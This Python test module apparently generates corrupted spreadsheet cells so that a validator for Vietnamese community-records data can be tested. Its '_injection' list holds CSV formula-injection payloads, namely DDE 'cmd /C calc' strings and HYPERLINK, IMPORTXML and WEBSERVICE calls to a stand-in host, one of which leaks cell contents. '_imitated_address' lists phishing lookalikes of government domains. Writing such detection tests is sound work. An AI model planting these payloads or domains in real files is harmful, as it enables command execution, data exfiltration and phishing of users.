"""Ways to spoil cells of models, platforms and groups, of sex, year, role; cells of any column."""

from datetime import date

from tests.districts.spoiling import Cell, Kind, Kinds, Spoilt, one_of
from tests.districts.wording import words


def _birthday(cell: Cell) -> Spoilt:
    day = f"{cell.rng.randint(1, 28)}/{cell.rng.randint(1, 12)}/{cell.text}"
    return Spoilt(day)


def _birthday_as_number(cell: Cell) -> Spoilt:
    born = date(int(cell.text), cell.rng.randint(1, 12), cell.rng.randint(1, 28))
    serial = (born - date(1899, 12, 30)).days
    return Spoilt(serial, seen=born.strftime("%d/%m/%Y"))


def _two_digits(cell: Cell) -> Spoilt:
    short = int(cell.text) % 100
    return Spoilt(cell.pick(short, f"{short:02}"))


def _other_century(cell: Cell) -> Spoilt:
    return Spoilt(cell.pick(int(cell.text) - 100, int(cell.text) + 100, str(int(cell.text) + 100)))


def _extra_digit(cell: Cell) -> Spoilt:
    forms = (
        f"khoảng {cell.text}",
        f"sinh năm {cell.text}",
        f"{cell.text}?",
        "không nhớ",
        f"{cell.text[0]}.{cell.text[1:]}",
        "không rõ",
    )
    return Spoilt(cell.pick(int(cell.text + "0"), int(cell.text) // 10, *forms))


def _unknown_tdp(cell: Cell) -> Spoilt:
    word = cell.ward.tdps[0].rstrip("0123456789 ") or "TDP"
    return Spoilt(cell.pick(f"{word} 45", f"{word} 99", "TDP số 45", "TDP 88", "Tổ dân phố 71"))


def _decimal(cell: Cell) -> Spoilt:
    number = cell.rng.choice((1050, 1250, 1125, 2450, 1510, 3005, 1275, 2040))
    return Spoilt(number / 1000, str(number), f"{number / 1000:g}".replace(".", ","))


def _misspelt_address(cell: Cell) -> Spoilt:
    bare = cell.text.split("//")[1]
    return Spoilt(
        cell.pick(
            "htps:/" + bare,
            "http//" + bare,
            "https:" + bare,
            "https//:" + bare,
            "https:// " + bare.replace(".", " "),
            "vneid",
            "zalo",
            "htps:/zalo",
            "https://",
            bare.replace(".", ","),
            "tìm trên CH Play",
            "app store",
        )
    )


def _imitated_address(cell: Cell) -> Spoilt:
    return Spoilt(
        cell.pick(
            "https://dichvucong-gov.vn.xyz",
            "https://vneid.gov.vn-login.site",
            "http://dichvucong.gov.vn.com",
            "https://vneid-gov.vn",
            "https://vssid.gov-vn.com",
            "https://dichvucong.gov.vn-xacthuc.top",
            "http://thuedientu.gov-vn.cc/dang-nhap",
            "https://vneid-capnhat.online",
            "https://dichvuconggov.vn",
            "https://bocongan.gov.vn.xacminh.info",
            "https://vneid.com",
            "http://dichvucong-quocgia.com",
            "https://vn-eid.gov.vn.info",
        )
    )


def _several_platforms(cell: Cell) -> Spoilt:
    names = ["VNeID", "VssID", "Zalo", "MoMo", "Shopee", "eTax Mobile", "Viettel Money"]
    others = [name for name in names if name not in cell.text]
    mark = cell.rng.choice((", ", "; ", "\n", " và ", " + ", ","))
    return Spoilt(mark.join([cell.text, *cell.rng.sample(others, cell.rng.randint(1, 2))]))


def _wrong_role(cell: Cell) -> Spoilt:
    return Spoilt(cell.rng.choice(_WRONG_ROLES))


def _impossible_date(cell: Cell) -> Spoilt:
    if cell.rng.random() < 0.15:
        return Spoilt(2022)
    return Spoilt(cell.rng.choice(_IMPOSSIBLE_DATES))


def _future_date(cell: Cell) -> Spoilt:
    if cell.rng.random() < 0.3:
        return Spoilt(55653, seen="14/05/2052")
    return Spoilt(cell.pick("15/05/2052", "3/4/2032", "20-12-2027", "15/05/2202"))


def _citizen_number_in_note(cell: Cell) -> Spoilt:
    number = f"0{cell.rng.choice(('01', '31', '79', '92', '40'))}{cell.rng.choice('01')}"
    number += f"{cell.rng.randint(50, 99)}{cell.rng.randint(100000, 999999)}"
    spaced = " ".join(number[start : start + 3] for start in range(0, 12, 3))
    forms = ("CCCD {}", "{}", "số CC: {}", "Căn cước: {}", "CCCD số {} cấp 2021", "cccd:{}")
    return Spoilt(cell.rng.choice(forms).format(cell.rng.choice((number, number, spaced))))


def _error(cell: Cell) -> Spoilt:
    return Spoilt(
        cell.pick("#REF!", "#N/A", "#ERROR!", "#VALUE!", "#NAME?", "#DIV/0!", "#NUM!", "#NULL!")
    )


def _injection(cell: Cell) -> Spoilt:
    return Spoilt(
        cell.pick(
            '=HYPERLINK("http://example.invalid/?a="&C5;"Bấm")',
            '=IMPORTXML("http://example.invalid";"//a")',
            '=IMAGE("http://example.invalid/x.png")',
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            '@SUM(1+1)*cmd|" /C calc"!A0',
            "-2+3+cmd|' /C calc'!A0",
            '=IMPORTDATA("http://example.invalid/a.csv")',
            '=WEBSERVICE("http://example.invalid")',
            '=hyperlink("http://example.invalid","Bấm vào đây")',
            "=A1+B1",
        )
    )


_WRONG_ROLES = words(
    "Tổ trường|Tổ truởng|To truong|Thư ký|Uỷ viên|TV|Trưởng|"
    "Tổ chưởng|TV1|Cố vấn|Trưởng nhóm|x|Giám sát|Tổ trươngr|Thanh viên 2|Phụ trách|Đội trưởng"
)
_IMPOSSIBLE_DATES = words(
    "31/02/2022|30/13/2023|2022|tháng 5|32/01/2023|29/02/2023|tháng 5/2022|năm 2022|31/11/2022|"
    "05/2022|00/05/2022|15/05|Tháng 5 năm 2022|2022-13-01"
)
_OUT_OF_RANGE = one_of(6, "6", "1,7", 15, "15", "0", 0, "1;6", "1, 2, 8", 99, "2-7")
_SHORT = words(
    "Triển khai tốt|Đang triển khai|Có hiệu quả|Tốt|ok|Có|Hiệu quả|x|Đang làm|"
    "Bình thường|Đạt|tốt lắm|."
)
_DITTO = words(
    "nt|như trên|\"|//|''|NT|Như trên|-nt-|n.t|“|〃|nt.|-\"-|(như trên)|giống trên|"
    "như dòng trên|idem|↑"
)
_TEXTS = (
    ("models", "note"),
    ("models", "desc"),
    ("platforms", "provider"),
    ("platforms", "reason"),
    ("members", "job"),
    ("members", "note"),
)
_ANYWHERE = (
    ("models", "count"),
    ("platforms", "url"),
    ("groups", "phone"),
    ("members", "phone"),
    ("members", "year"),
    ("members", "job"),
    ("officers", "cccd"),
    ("officers", "pos"),
)
_YEARS = (("members", "year"), ("members", "year"), ("officers", "year"))
_SEXES = (("members", "sex"), ("members", "sex"), ("officers", "sex"))
_EMPTY = one_of("", None, " ")
_SIZES = one_of(60, 55, 120, "60", 45, 99, 1, 0)
LISTS: Kinds = {
    "person_year_invalid": Kind(
        _YEARS, [_birthday, _birthday_as_number, _two_digits, _other_century, _extra_digit]
    ),
    "person_sex_invalid": Kind(
        _SEXES,
        [
            one_of(
                "Nm",
                "x",
                "1",
                1,
                "Khác?",
                "?",
                "Namm",
                "Nam/Nữ",
                "0",
                "Đực",
                "N/A?",
            )
        ],
    ),
    "officer_pos_missing": Kind((("officers", "pos"),), [_EMPTY]),
    "member_role_invalid": Kind((("members", "role"),), [_wrong_role]),
    "group_tdp_missing": Kind((("groups", "tdp"),), [_EMPTY]),
    "group_size_outlier": Kind((("groups", "count"),), [_SIZES]),
    "group_decision_missing": Kind((("groups", "decision"),), [_EMPTY]),
    "group_date_invalid": Kind((("groups", "ddate"),), [_impossible_date]),
    "group_date_future": Kind((("groups", "ddate"),), [_future_date]),
    "model_name_missing": Kind((("models", "name"),), [_EMPTY]),
    "model_skill_missing": Kind((("models", "skill"),), [_EMPTY]),
    "model_skill_out_of_range": Kind(
        (("models", "skill"),),
        [_OUT_OF_RANGE],
    ),
    "model_skill_unrecognized": Kind(
        (("models", "skill"),),
        [
            one_of(
                "chụp ảnh",
                "kỹ năng mềm",
                "tin học văn phòng",
                "nấu ăn",
                "quay phim",
                "tiếng Anh giao tiếp",
                "thể dục",
                "cắm hoa",
            )
        ],
    ),
    "model_tdp_missing": Kind((("models", "tdp"),), [_EMPTY]),
    "model_tdp_unknown": Kind((("models", "tdp"),), [_unknown_tdp]),
    "model_count_text": Kind(
        (("models", "count"),),
        [
            one_of(
                "khoảng 50 hộ",
                "nhiều",
                "50 hộ",
                "trên 100 người",
                "~ 200",
                "hàng trăm hộ",
                "100-150",
                "gần 300 lượt người",
                "cả khu",
                "120 người",
                "rất đông",
                "chưa thống kê",
                "năm mươi",
                "50+",
                "50 hộ/120 người",
                "hơn 80",
            )
        ],
    ),
    "model_count_decimal": Kind((("models", "count"),), [_decimal]),
    "model_count_implausible": Kind(
        (("models", "count"),), [one_of(150000, 98000, 1000000, "250000", 45000, 99999)]
    ),
    "model_desc_short": Kind(
        (("models", "desc"),),
        [
            one_of(
                "Tốt", "ok", "Có", "Hiệu quả", "x", "Đang làm", "Bình thường", "Đạt", "tốt lắm", "."
            )
        ],
    ),
    "platform_name_missing": Kind((("platforms", "name"),), [_EMPTY]),
    "platform_url_invalid": Kind((("platforms", "url"),), [_misspelt_address]),
    "platform_url_suspicious": Kind((("platforms", "url"),), [_imitated_address]),
    "platform_skill_missing": Kind((("platforms", "skill"),), [_EMPTY]),
    "platform_reason_missing": Kind((("platforms", "reason"),), [_EMPTY]),
    "platform_multi_in_cell": Kind((("platforms", "name"),), [_several_platforms]),
    "ditto_mark": Kind(
        (("members", "job"), ("members", "job"), ("members", "role")),
        [
            one_of(
                "nt", "như trên", '"', "//", "''", "NT", "Như trên", "-nt-", "n.t", "“", "〃", "nt."
            )
        ],
    ),
    "formula_error": Kind(_ANYWHERE, [_error]),
    "formula_injection": Kind(_TEXTS, [_injection]),
    "privacy_cccd_in_note": Kind((("members", "note"),), [_citizen_number_in_note]),
}
